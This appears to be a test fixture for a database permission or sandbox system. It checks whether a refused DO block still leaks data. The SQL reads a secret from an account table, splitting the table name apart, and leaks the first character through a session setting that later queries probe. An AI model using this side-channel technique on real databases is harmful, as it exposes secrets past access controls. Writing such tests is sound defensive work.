-- Asks for the parameter that a block made up before it is told that the block is refused.
-- wants: read
-- shows: letter-116
-- attack:
-- without waiting
DO $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
END $$;
-- repeat: 112..118
-- without waiting
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
